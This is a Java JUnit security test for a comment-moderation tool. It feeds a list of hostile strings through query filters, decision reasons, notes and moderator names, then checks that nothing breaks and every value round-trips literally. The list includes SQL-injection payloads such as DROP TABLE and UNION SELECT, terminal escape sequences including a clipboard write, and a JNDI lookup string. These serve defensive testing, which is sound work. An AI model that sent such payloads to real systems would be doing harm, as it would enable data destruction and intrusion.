package dev.modq;

import dev.modq.core.AuditEntry;
import dev.modq.core.ModeratorName;
import dev.modq.core.Decision;
import dev.modq.core.Target;
import dev.modq.core.query.Query;
import dev.modq.core.query.QueryException;
import dev.modq.service.Actors;
import dev.modq.service.DecideOptions;
import dev.modq.service.ModerationService;
import dev.modq.store.OpenMode;
import dev.modq.store.PageRequest;
import dev.modq.store.sqlite.SqliteStore;
import dev.modq.testing.CliRun;
import dev.modq.testing.TestDb;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * SQL-injection and escape-sequence strings through every user-supplied filter and field reachable on this branch:
 * query terms (text, author, email, url, post title, reason, source), moderator names (roster and --as), and
 * decision reasons and notes. Nothing breaks, nothing else changes, and values come back literally.
 */
class SecurityInjectionTest {

    static final List<String> HOSTILE = List.of(
            "'; DROP TABLE comments; --",
            "Robert'); DROP TABLE moderators;--",
            "\" OR 1=1 --",
            "' OR ''='",
            "1 UNION SELECT name, role FROM moderators --",
            "%", "_", "%_%", "\\", "\\\"", "''", "\"\"",
            "\u001b[2J\u001b[31mred\u001b[0m",
            "\u001b]52;c;cHduZWQ=\u0007",
            "\r\nInjected: line",
            "tab\there",
            "\u202Eevil\u202C",
            "zero\u200Bwidth",
            "\u001fseparator\u001f",
            "${jndi:ldap://x/a}",
            "%s%n%x",
            "ünïcödé ✓ 日本");

    @TempDir
    Path dir;

    @Test
    void hostileStringsInQueriesMatchLiterallyAndBreakNothing() throws Exception {
        Path db = dir.resolve("q.db");
        TestDb.create(db).close();
        TestDb.seed(db, 3);
        List<String> bodies = new ArrayList<>();
        try (Connection c = TestDb.connect(db);
             PreparedStatement ps = c.prepareStatement("INSERT INTO comments (id, post_id, author_name, author_email,"
                     + " author_url, body, created_at, reason, source_system, source_id) VALUES (?, 1, ?, ?, ?, ?, ?, ?, ?, ?)")) {
            for (int i = 0; i < HOSTILE.size(); i++) {
                String s = HOSTILE.get(i);
                ps.setInt(1, 100 + i);
                ps.setString(2, s);
                ps.setString(3, s);
                ps.setString(4, s);
                ps.setString(5, "<" + s + ">");
                ps.setLong(6, TestDb.T0 + 100 + i);
                ps.setString(7, s);
                ps.setString(8, s);
                ps.setString(9, "id" + i);
                ps.executeUpdate();
                bodies.add("<" + s + ">");
            }
        }
        for (int i = 0; i < 3; i++) {
            bodies.add("comment number " + (i + 1));
        }
        try (SqliteStore store = SqliteStore.open(db, OpenMode.EXISTING)) {
            int parsed = 0;
            for (String s : HOSTILE) {
                String quoted = "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
                long expected = bodies.stream()
                        .filter(b -> b.toLowerCase(Locale.ROOT).contains(s.toLowerCase(Locale.ROOT))).count();
                for (String key : List.of("text", "author", "email", "url", "post", "reason", "source")) {
                    Query q;
                    try {
                        q = Query.parse(key + ":" + quoted);
                    } catch (QueryException e) {
                        assertTrue(s.chars().anyMatch(ch -> ch < 0x20), "only control characters may be refused: " + s);
                        continue;
                    }
                    parsed++;
                    long n = store.count(q);
                    List<?> page = store.page(PageRequest.first(q, 100));
                    assertEquals(n, page.size(), key + ":" + s);
                    if (key.equals("text")) {
                        assertEquals(expected, n, "text:" + s);
                    } else if (key.equals("author") || key.equals("email") || key.equals("url") || key.equals("reason")) {
                        assertTrue(n >= 1, key + " must find its own comment literally: " + s);
                    } else if (key.equals("source")) {
                        assertEquals(1, n, "source is exact: " + s);
                    }
                }
            }
            assertTrue(parsed > HOSTILE.size() * 5, "most hostile strings must be searchable, parsed " + parsed);
        }
        assertEquals(HOSTILE.size() + 3, TestDb.longValue(db, "SELECT count(*) FROM comments"));
        assertEquals(0, CliRun.run("check", "--db", db.toString()).code());
    }

    @Test
    void hostileReasonsNotesAndNamesRoundTripLiterallyAndKeepTheAuditChainIntact() {
        Path db = dir.resolve("q.db");
        try (SqliteStore store = TestDb.create(db)) {
            TestDb.seed(db, HOSTILE.size());
            ModerationService alice = new ModerationService(store, Actors.resolve(store, "alice", null), Clock.systemUTC());
            for (int i = 0; i < HOSTILE.size(); i++) {
                String s = HOSTILE.get(i);
                alice.decide(Decision.REJECT, List.of(Target.any(i + 1)), new DecideOptions(s, s, false, false, false));
            }
            for (int i = 0; i < HOSTILE.size(); i++) {
                String s = HOSTILE.get(i);
                AuditEntry e = store.history(i + 1).get(0);
                assertEquals(s.toLowerCase(Locale.ROOT), e.reason(), "reasons are kept in lower case, otherwise literally");
                assertEquals(s, e.note());
                assertEquals(s.toLowerCase(Locale.ROOT), store.comment(i + 1).orElseThrow().reason());
            }
            assertTrue(store.verifyAuditChain().isEmpty());
        }
        // names are OS account names now (issue 10 item 12): hostile ones are refused with one clean line
        int valid = 0;
        for (String s : HOSTILE) {
            CliRun add = CliRun.run("moderator", "add", s, "--db", db.toString());
            if (ModeratorName.isValid(s)) {
                assertEquals(0, add.code(), add.toString());
                valid++;
                continue;
            }
            assertEquals(2, add.code(), add.toString());
            assertEquals(1, add.err().lines().count(), add.toString());
            assertFalse(add.err().contains("\u001b"), add.err());
        }
        try (SqliteStore store = SqliteStore.open(db, OpenMode.EXISTING)) {
            for (String s : HOSTILE) {
                assertEquals(ModeratorName.isValid(s), store.moderator(s).isPresent(), "only valid names are added: " + s);
            }
            assertEquals(valid + 4, store.moderators().size());
        }
        CliRun as = CliRun.run("moderator", "list", "--db", db.toString(), "--as", "x' OR '1'='1");
        assertEquals(1, as.code());
        assertEquals(1, as.err().lines().count(), as.err());
        assertTrue(as.err().contains("is not a moderator"), as.err());
        assertFalse(TestDb.stringValue(db, "SELECT group_concat(name) FROM sqlite_schema WHERE type = 'table'").isEmpty());
        assertEquals(HOSTILE.size(), TestDb.longValue(db, "SELECT count(*) FROM comments"));
        assertEquals(0, CliRun.run("check", "--db", db.toString()).code());
    }
}
